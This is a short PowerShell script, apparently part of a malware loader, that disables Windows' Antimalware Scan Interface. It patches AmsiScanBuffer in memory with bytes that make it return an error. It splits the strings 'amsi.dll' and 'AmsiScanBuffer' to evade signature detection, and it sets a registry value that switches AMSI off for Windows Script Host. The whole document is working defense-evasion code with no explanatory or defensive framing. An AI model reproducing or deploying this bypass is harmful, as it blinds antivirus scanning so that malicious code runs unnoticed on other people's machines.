# AMSI patch used by the loader when the reflection trick is blocked
$code = @'
using System;
using System.Runtime.InteropServices;
public class Kern {
    [DllImport("kernel32")] public static extern IntPtr GetProcAddress(IntPtr hModule, string procName);
    [DllImport("kernel32")] public static extern IntPtr LoadLibrary(string name);
    [DllImport("kernel32")] public static extern bool VirtualProtect(IntPtr lpAddress, UIntPtr dwSize, uint flNewProtect, out uint lpflOldProtect);
}
'@
Add-Type -TypeDefinition $code

$lib = [Kern]::LoadLibrary('am' + 'si.dll')
$addr = [Kern]::GetProcAddress($lib, 'Amsi' + 'Scan' + 'Buffer')
$old = 0
[Kern]::VirtualProtect($addr, [UIntPtr]5, 0x40, [ref]$old) | Out-Null
$patch = [Byte[]](0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3)
[System.Runtime.InteropServices.Marshal]::Copy($patch, 0, $addr, 6)

# Windows Script Host side: switch AMSI off for wscript/cscript as well
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows Script\Settings' -Name 'AmsiEnable' -Value 0 -Type DWord
